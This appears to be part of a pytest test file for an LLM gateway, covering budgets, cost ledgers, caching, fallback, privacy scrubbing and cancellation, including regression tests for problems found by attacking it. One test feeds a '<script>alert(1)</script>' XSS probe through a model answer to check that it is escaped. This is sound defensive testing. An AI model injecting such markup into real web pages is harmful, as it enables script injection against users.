        async with gateway.interaction("outer") as call:
            for _ in range(3):
                await gateway.ask(*ASK)
            with pytest.raises(CallLimitError, match="3 calls of 3"):
                await gateway.ask(*ASK)
        outer, _ = await gateway.ledger.interaction(call.row.id)
        rows = await gateway.ledger.interactions(10)

    assert (outer.calls, outer.cost) == (0, 0)  # nothing is counted twice
    assert sum(row.cost for row in rows) == 3 * 300_000


async def test_an_interaction_inside_another_ends_with_it(open_gateway: Any) -> None:
    async with open_gateway(main=RuleModel({".*": Step("x", delay=5)})) as gateway:
        with pytest.raises(DeadlineExceededError):
            async with gateway.interaction("outer", deadline=0.1):
                await gateway.ask(*ASK)


async def test_a_request_outside_of_any_interaction_is_one(open_gateway: Any) -> None:
    async with open_gateway(main=ScriptedModel(answered("x"))) as gateway:
        await gateway.model().request([ModelRequest.user_text_prompt("hi")], None, ModelRequestParameters())
        [row] = await gateway.ledger.interactions(10)

    assert (row.status, row.calls, row.cost) == ("ok", 1, 300_000)


def test_code_that_does_not_await_can_ask(prompts: Path, database: str, look: Any) -> None:
    candidate = {"model": "openai-chat:x", "price": {"input": "1", "output": "2"}}
    config = {"candidates": {"main": candidate}, "chains": {"default": ["main"]}, "budgets": {"unlimited": True}}
    model = ScriptedModel(answered("x"))

    async def inside_a_running_loop() -> str:
        options = {"config": config, "prompts": prompts, "database_url": database, "models": {"main": model}}
        with Gateway.open_blocking(**options) as ask, attributed_to(cost_center="research"):
            return str(ask("plain", {"question": "?"}).output)

    assert asyncio.run(inside_a_running_loop()) == "x"
    assert [row.cost_center for row in look(database, lambda ledger: ledger.interactions(10))] == ["research"]


async def test_replay_asks_again(open_gateway: Any) -> None:
    models = {"main": ScriptedModel(SURE, {"category": "billing", "confidence": 1})}
    async with open_gateway(**models) as gateway:
        first = await gateway.ask("triage", {"question": "?"}, output_type=Verdict)
        recorded, again = await gateway.replay(first.interaction_id)

    assert json.loads(recorded.response)["category"] == "bug"
    assert again.output == Verdict(category="billing", confidence=1)
    assert models["main"].prompts == ["Triage: ?", "Triage: ?"]


# ---- What an attack on all this found ----


async def test_an_agents_stream_outside_of_an_interaction_leaves_nothing_behind(open_gateway: Any) -> None:
    async with open_gateway(main=RuleModel({".*": answered("one two")}), retry={"deadline": 0.5}) as gateway:
        async with Agent(gateway.model()).run_stream("hi") as run:
            text = [chunk async for chunk in run.stream_text()][-1]
        await asyncio.sleep(0.6)  # past the deadline of the stream's interaction
        await gateway.ask(*ASK)
        rows = await gateway.ledger.interactions(10)

    assert text == "one two"
    assert [(row.status, row.calls, row.cost) for row in rows] == [("ok", 1, 300_000)] * 2


async def test_a_task_that_outlives_its_interaction_is_one_of_its_own(open_gateway: Any) -> None:
    async def later(gateway: Gateway) -> None:
        await asyncio.sleep(0.05)
        await Agent(gateway.model()).run("hi")

    async with open_gateway(main=ScriptedModel(answered("x"))) as gateway:
        async with gateway.interaction("first"):
            task = asyncio.create_task(later(gateway))
        await task
        rows = await gateway.ledger.interactions(10)

    assert sorted(row.calls for row in rows) == [0, 1]


async def test_a_cost_centre_with_a_personal_name_has_its_cap(open_gateway: Any) -> None:
    budgets = {"cost_centers": {"bob@example.com": {"day": "0"}}}
    async with open_gateway(main=ScriptedModel(answered("x")), budgets=budgets) as gateway:
        with pytest.raises(BudgetExceededError, match=r"cost center \[email\] [0-9a-f]{8}, day"):
            await gateway.ask(*ASK, cost_center="bob@example.com")
        await gateway.ask(*ASK, cost_center="ann@example.com")
        names = {row.cost_center for row in await gateway.ledger.interactions(10)}

    assert len(names) == 2
    assert "@" not in "".join(names)


async def test_instructions_and_tools_are_scrubbed_as_well(open_gateway: Any) -> None:
    def write(text: str) -> str:
        """Mail to carl@example.com."""
        return text

    model = RuleModel({".*": answered("x")})
    async with open_gateway(main=model, privacy={"send_personal_data": False}) as gateway:
        await Agent(gateway.model(), instructions="Write to bob@example.com", tools=[write]).run("hello")

    assert "@example.com" not in repr(model.requests)


@pytest.mark.parametrize("wrong", [int, list[str], dict])
async def test_an_output_type_that_cannot_be_validated_is_refused(open_gateway: Any, wrong: Any) -> None:
    async with open_gateway(main=ScriptedModel()) as gateway:
        with pytest.raises(TypeError, match="output_type must be str or a Pydantic model"):
            await gateway.ask(*ASK, output_type=wrong)


class Aliased(BaseModel):
    category: str = Field(alias="theCategory")


class Secretive(BaseModel):
    key: SecretStr


async def test_the_cache_gives_back_what_was_answered_or_nothing(open_gateway: Any) -> None:
    model = ScriptedModel({"theCategory": "<i x=1>bug"}, {"key": "k"}, {"key": "k"})
    async with open_gateway(main=model, cache={"fresh": 60}) as gateway:
        aliased = [await gateway.ask(*ASK, output_type=Aliased) for _ in range(2)]
        secret = [await gateway.ask(*ASK, output_type=Secretive) for _ in range(2)]

    assert [(answer.source, answer.output.category) for answer in aliased] == [
        ("model", "&lt;i x=1>bug"),
        ("cache", "&lt;i x=1>bug"),
    ]
    assert [(answer.source, answer.output.key.get_secret_value()) for answer in secret] == [("model", "k")] * 2


@pytest.mark.parametrize("odd", [float("nan"), 95.0])
async def test_an_odd_confidence_is_no_confidence(open_gateway: Any, odd: float) -> None:
    async with open_gateway(main=ScriptedModel("x")) as gateway:
        assert (await gateway.ask(*ASK, confidence=lambda _: odd)).source == "human"


async def test_an_error_of_who_reads_a_stream_is_not_the_candidates(open_gateway: Any) -> None:
    model = RuleModel({".*": answered("one two")})
    async with open_gateway(main=model, breaker={"failures": 1}) as gateway:
        for error in (ConnectionResetError("the browser went away"), ConfigError("typo.md", "no such prompt")):
            with pytest.raises(type(error), match=re.escape(str(error))):  # noqa: PT012 - it is raised inside
                async with gateway.stream(*ASK) as chunks:
                    await anext(aiter(chunks))
                    raise error
            [row] = await gateway.ledger.interactions(1)
            [attempt] = (await gateway.ledger.interaction(row.id))[1]
            assert (attempt.status, attempt.cost) == ("abandoned", attempt.reserved)

        assert (await gateway.ask(*ASK)).output == "one two"


async def test_a_candidate_that_fails_inside_anothers_stream_opens_its_own_breaker_only(open_gateway: Any) -> None:
    models = {"main": RuleModel({".*": answered("one two")}), "strong": FaultyModel(EchoModel(), revoked_key())}
    async with open_gateway(**models, breaker={"failures": 1}) as gateway:
        strong = gateway.model("strong").models[0]
        with pytest.raises(AttemptFailedError, match="strong: "):  # noqa: PT012 - as above
            async with gateway.stream(*ASK) as chunks:
                await anext(aiter(chunks))
                await strong.request([ModelRequest.user_text_prompt("hi")], None, ModelRequestParameters())

        assert (await gateway.ask(*ASK)).output == "one two"


async def test_a_stream_that_does_not_begin_falls_back(open_gateway: Any) -> None:
    models = {"main": RuleModel({".*": Step("late", delay=30)}), "backup": RuleModel({".*": answered("here")})}
    async with open_gateway(**models, candidates={"main": {"timeout": 0.05}}) as gateway:
        assert await drain(gateway) == ["here"]


class Odd(WrapperModel):
    """Fails as a client library does over an answer that nobody foresaw, or changes what it reports."""

    def __init__(self, change: Any) -> None:
        super().__init__(ScriptedModel("x"))
        self.change = change

    async def request(self, *given: Any) -> ModelResponse:
        return cast("ModelResponse", self.change(await super().request(*given)))


async def test_what_a_client_library_makes_of_an_odd_answer_is_the_candidates_failure(open_gateway: Any) -> None:
    def stumble(_: ModelResponse) -> ModelResponse:
        raise IndexError("list index out of range")

    odd = Odd(stumble)
    async with open_gateway(main=odd, backup=ScriptedModel("y"), retry={"attempts": 1}) as gateway:
        answer = await gateway.ask(*ASK)

    assert (answer.output, answer.calls) == ("y", 2)


@pytest.mark.parametrize(
    "report",
    [
        {"usage": RequestUsage(input_tokens=10**20, output_tokens=1)},
        {"usage": RequestUsage(input_tokens=1, cache_read_tokens=50, output_tokens=1)},
        {"model_name": "half of a pair \ud800, nul \0"},
    ],
)
async def test_an_odd_report_is_settled(open_gateway: Any, database_url: str, report: dict[str, Any]) -> None:
    known = {"main": {"model": "openai-chat:gpt-4o-mini", "price": None}}
    odd = Odd(lambda response: replace(response, **report))
    async with open_gateway(main=odd, candidates=known, database_url=database_url) as gateway:
        answer = await gateway.ask(*ASK)
        assert await differences(gateway.ledger) == []
        _, [attempt] = await gateway.ledger.interaction(answer.interaction_id)

    assert answer.output == "x"
    assert 0 < attempt.cost <= attempt.reserved


async def test_instructions_that_come_with_the_parameters_count(open_gateway: Any) -> None:
    told = [InstructionPart(content="i" * 5000)]
    async with open_gateway(main=ScriptedModel(answered("x"))) as gateway:
        params = ModelRequestParameters(instruction_parts=told)
        await gateway.model().request([ModelRequest.user_text_prompt("hi")], None, params)
        [row] = await gateway.ledger.interactions(1)
        [attempt] = (await gateway.ledger.interaction(row.id))[1]

    assert attempt.reserved > 5_000 * 1_000


class Hidden(BaseModel):
    category: str
    aside: str = Field(exclude=True)


async def test_a_field_that_is_left_out_of_dumps_is_cleaned_as_well(open_gateway: Any) -> None:
    async with open_gateway(main=ScriptedModel({"category": "bug", "aside": "<script>alert(1)</script>"})) as gateway:
        answer = await gateway.ask(*ASK, output_type=Hidden)

    assert answer.output.aside == "&lt;script>alert(1)&lt;/script>"


async def test_an_empty_answer_of_a_person_is_none(open_gateway: Any) -> None:
    async with open_gateway(main=RuleModel({"(?s).*": UNSURE})) as gateway:
        draft = await gateway.ask("triage", {"question": "?"}, output_type=Verdict)
        await gateway.ledger.answer(draft.escalation_id, "", "ada")
        answer = await gateway.ask("triage", {"question": "?"}, output_type=Verdict)

    assert answer.output == draft.output


async def test_a_stronger_chain_that_is_gone_costs_no_answer(open_gateway: Any, prompts: Path) -> None:
    file = prompts.parent / "llm.toml"
    text = "[candidates.a]\nmodel='offline:'\n[chains]\ndefault=['a']\n[budgets]\nunlimited=true\n"

    def edit(_: object) -> str:
        file.write_text(text, encoding="utf-8")
        return "unsure"

    whole = text.replace("default=['a']", "default=['a']\nstrong=['a']") + "[escalation]\nchain='strong'\n"
    file.write_text(whole, encoding="utf-8")
    async with open_gateway(config=file, a=ScriptedModel(edit)) as gateway:
        answer = await gateway.ask(*ASK, confidence=lambda _: Decimal("0.1"))

    assert (answer.output, answer.source, answer.confidence) == ("unsure", "human", 0.1)


@pytest.mark.parametrize("name", ["nul \0", "half of a pair \ud800"])
async def test_a_cost_centre_with_an_odd_name_is_counted(open_gateway: Any, database_url: str, name: str) -> None:
    async with open_gateway(main=ScriptedModel(answered("x")), database_url=database_url) as gateway:
        await gateway.ask(*ASK, cost_center=name)

        assert await differences(gateway.ledger) == []


async def test_a_ledger_that_is_locked_does_not_outlast_the_deadline(open_gateway: Any, database: str) -> None:
    model = ScriptedModel("never sent")
    async with open_gateway(main=model, retry={"deadline": 0.3}) as gateway:
        other = sqlite3.connect(database.removeprefix("sqlite:///"), isolation_level=None)
        other.execute("BEGIN IMMEDIATE")
        asyncio.get_running_loop().call_later(0.6, other.execute, "COMMIT")
        with pytest.raises(DeadlineExceededError):
            await gateway.ask(*ASK)
        other.close()
        [row] = await gateway.ledger.interactions(10)
        assert await differences(gateway.ledger) == []

    assert model.prompts == []
    assert (row.status, row.calls, row.cost) == ("failed", 0, 0)


async def test_a_cancelled_call_leaves_its_row_whatever_it_waits_for(open_gateway: Any, database: str) -> None:
    async with open_gateway(main=RuleModel({".*": answered("x")})) as gateway:
        await gateway.ask(*ASK)
        other = sqlite3.connect(database.removeprefix("sqlite:///"), isolation_level=None)
        other.execute("BEGIN IMMEDIATE")
        task = asyncio.create_task(gateway.ask(*ASK))
        await asyncio.sleep(0.05)
        task.cancel()
        other.execute("COMMIT")
        with pytest.raises(asyncio.CancelledError):
            await task
        other.close()
        rows = await gateway.ledger.interactions(10)
        assert await differences(gateway.ledger) == []

    assert [row.status for row in rows] == ["failed", "ok"]


@pytest.mark.parametrize("moment", ["settlement", "record"])
async def test_what_was_spent_or_answered_is_booked_though_the_caller_goes(
    open_gateway: Any, database: str, moment: str
) -> None:
    other = sqlite3.connect(database.removeprefix("sqlite:///"), isolation_level=None)

    def lock(*_: object) -> str:
        other.execute("BEGIN IMMEDIATE")
        return "x"

    refusing = {"overall": {"day": "0"}} if moment == "record" else {}
    async with open_gateway(main=ScriptedModel(lock), budgets=refusing) as gateway:
        task = asyncio.create_task(gateway.ask(*ASK, fallback=lock))
        for _ in range(3):
            await asyncio.sleep(0.05)
            task.cancel()
        other.execute("COMMIT")
        with pytest.raises(asyncio.CancelledError):
            await task
        other.close()
        [row] = await gateway.ledger.interactions(10)
        _, attempts = await gateway.ledger.interaction(row.id)
        assert await differences(gateway.ledger) == []

    assert [attempt.status for attempt in attempts] == ([] if moment == "record" else ["ok"])
    assert row.status == ("ok" if moment == "record" else "failed")
